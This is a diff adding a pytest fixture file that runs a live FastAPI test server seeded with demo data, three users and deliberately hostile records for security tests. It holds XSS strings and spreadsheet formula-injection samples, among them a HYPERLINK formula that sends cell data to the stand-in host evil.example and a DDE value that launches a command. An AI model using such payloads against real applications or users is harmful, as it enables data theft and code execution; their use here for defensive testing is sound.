@@ -1,0 +1,151 @@
+"""A real server for the API tests: uvicorn on a free loopback port, in a thread, over
+a real data directory with the small demo, a few hostile records, and three users.
+
+`world` (server mode, auth on, purpose required) is shared by the whole session;
+tests that change data make their own names so they do not step on each other.
+"""
+
+from __future__ import annotations
+
+import socket
+import threading
+import time
+from collections.abc import Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass
+from pathlib import Path
+
+import httpx
+import pytest
+import uvicorn
+from fastapi import FastAPI
+
+from tests.conftest import entity, write_entities
+from threadline.access import Level, Role
+from threadline.api.app import create_app
+from threadline.settings import Settings
+from threadline.workbench import Workbench
+
+PASSWORD = "correct horse battery staple"
+PURPOSE = "API tests"
+DEMO_DATASETS = ("registry", "procurement", "donations", "leak")
+XSS = "<script>alert('xss')</script>"
+XSS_IMG = '<img src=x onerror="alert(1)">'
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+41 44 000 00 00",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A2)",
+]
+
+
+class LiveServer:
+    """An app served by uvicorn on 127.0.0.1 in a background thread."""
+
+    def __init__(self, app: FastAPI) -> None:
+        self.app = app
+        with socket.socket() as probe:
+            probe.bind(("127.0.0.1", 0))
+            self.port = probe.getsockname()[1]
+        config = uvicorn.Config(
+            app, host="127.0.0.1", port=self.port, log_level="warning", lifespan="on"
+        )
+        self.server = uvicorn.Server(config)
+        self.thread = threading.Thread(target=self.server.run, name="uvicorn", daemon=True)
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self.port}"
+
+    def __enter__(self) -> LiveServer:
+        self.thread.start()
+        deadline = time.monotonic() + 30
+        while not self.server.started:
+            if not self.thread.is_alive() or time.monotonic() > deadline:
+                raise RuntimeError("the test server did not start")
+            time.sleep(0.02)
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        self.server.should_exit = True
+        self.thread.join(30)
+
+
+@dataclass
+class World:
+    """The running server and who can use it."""
+
+    url: str
+    app: FastAPI
+    tokens: dict[str, str]  # ada (admin), bob and cat (investigators)
+    xss_id: str
+
+    def client(
+        self, user: str | None = None, purpose: str | None = PURPOSE, **headers: str
+    ) -> httpx.Client:
+        """A client of /api/v1, with a user's token and a purpose unless told otherwise."""
+        sent = dict(headers)
+        if user is not None:
+            sent["Authorization"] = f"Bearer {self.tokens[user]}"
+        if purpose is not None:
+            sent["X-Purpose"] = purpose
+        return httpx.Client(base_url=f"{self.url}/api/v1", headers=sent, timeout=60)
+
+    @contextmanager
+    def browser(self, user: str) -> Iterator[tuple[httpx.Client, str]]:
+        """A client signed in with a session cookie, and its CSRF token."""
+        with httpx.Client(base_url=f"{self.url}/api/v1", timeout=60) as client:
+            answer = client.post("/login", json={"username": user, "password": PASSWORD})
+            answer.raise_for_status()
+            yield client, str(answer.json()["csrf"])
+
+
+def populate(data_dir: Path, sources: Path) -> tuple[dict[str, str], str]:
+    """The resolved demo, a tip-off with script tags, a register with formulas, and
+    three users with passwords: ada (admin), bob (writes) and cat (reads)."""
+    sources.mkdir()
+    tips = write_entities(
+        sources / "tips.ijson",
+        [entity("tip-1", "Person", name=f"{XSS} Mallory", notes=XSS_IMG, country="de")],
+    )
+    formulas = write_entities(
+        sources / "formulas.ijson",
+        [entity(f"f-{n}", "Company", name=v, notes=v) for n, v in enumerate(FORMULAS)],
+    )
+    tokens: dict[str, str] = {}
+    with Workbench(data_dir=data_dir) as bench:
+        bench.demo(scale=0.02)
+        bench.ingest([tips], "tips")
+        bench.ingest([formulas], "formulas")
+        bench.resolve()  # a review queue, and a match model to explain pairs with
+        access = bench.accountability.access
+        for name, role in (
+            ("ada", Role.ADMIN),
+            ("bob", Role.INVESTIGATOR),
+            ("cat", Role.INVESTIGATOR),
+        ):
+            tokens[name] = bench.user_add(name, role).token
+            access.set_password(name, PASSWORD)
+        for dataset in (*DEMO_DATASETS, "tips", "formulas"):
+            bench.grant("bob", dataset, Level.WRITE)
+            bench.grant("cat", dataset, Level.READ)
+            bench.grant("ada", dataset, Level.MANAGE)
+    return tokens, "tip-1"
+
+
+@pytest.fixture(scope="session")
+def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
+    root = tmp_path_factory.mktemp("api")
+    data_dir = root / "data"
+    tokens, xss_id = populate(data_dir, root / "sources")
+    app = create_app(Settings(data_dir=data_dir))
+    with LiveServer(app) as live:
+        yield World(live.url, app, tokens, xss_id)
+
+
+@pytest.fixture(scope="session")
+def local_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
+    """The single-user laptop mode over an empty data directory."""
+    app = create_app(Settings(data_dir=tmp_path_factory.mktemp("local")), local=True)
+    with LiveServer(app) as live:
+        yield live
